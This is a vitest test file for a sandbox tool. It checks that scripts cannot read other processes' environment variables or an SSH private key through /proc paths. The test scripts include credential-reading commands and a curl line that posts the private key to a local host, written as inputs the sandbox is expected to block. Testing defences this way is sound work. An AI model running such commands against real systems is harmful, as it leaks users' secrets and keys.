import { spawn } from 'node:child_process'
import { existsSync } from 'node:fs'
import { mkdir, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { expect, onTestFinished, test } from 'vitest'
import { scriptedSession } from '../support/scripted-session.ts'

const bare = `id = "bare"
description = "Protected paths, and no sandbox."
sandbox = "none"
[read]
allow = ["/**"]
[write]
allow = ["/**"]
[exec]
allow = ["*"]
[network]
allow = ["*"]
`

/** A program of the user's with a key in its environment. */
function startOther(): number {
  const other = spawn('sleep', ['60'], { env: { PATH: process.env.PATH, OTHER_KEY: 'key-of-another-program' } })
  onTestFinished(() => void other.kill('SIGKILL'))
  return other.pid ?? 0
}

async function open() {
  const session = await scriptedSession([], { home: { 'profiles/bare.toml': bare } })
  const sandbox = (profile: string, script: string) =>
    session.run(['sandbox', '-P', profile, '--', 'bash', '-c', script])
  return { session, sandbox, stolen: join(session.workspace.path, 'stolen') }
}

test.each(['trusted', 'bare'])(
  'without a sandbox, under %s, the environment of other processes is not read by its name',
  async (profile) => {
    const { sandbox, stolen } = await open()
    const pid = startOther()
    for (const file of [`/proc/${pid}/environ`, '/proc/$PPID/environ', `/proc/self/root/proc/${pid}/environ`]) {
      const { exitCode, stderr } = await sandbox(profile, `cat ${file} > stolen`)
      expect([file, exitCode, existsSync(stolen)]).toEqual([file, 5, false])
      expect(stderr).toContain('of another process')
    }
    const own = await sandbox(profile, 'cat /proc/self/environ > stolen')
    expect([own.exitCode, existsSync(stolen)]).toEqual([0, true])
  },
)

test('without a sandbox a secret is one behind /proc/self/root too', async () => {
  const { session, sandbox, stolen } = await open()
  const secret = join(session.home.homeDir, '.ssh', 'id_rsa')
  await mkdir(join(session.home.homeDir, '.ssh'), { recursive: true })
  await writeFile(secret, 'the key')
  const refused = await sandbox('bare', `cat /proc/self/root${secret} > stolen`)
  expect([refused.exitCode, existsSync(stolen)]).toEqual([5, false])
  const sent = await sandbox('trusted', `touch stolen; curl -d @/proc/self/root${secret} http://localhost:9/`)
  expect([sent.exitCode, existsSync(stolen)]).toEqual([5, false])
})
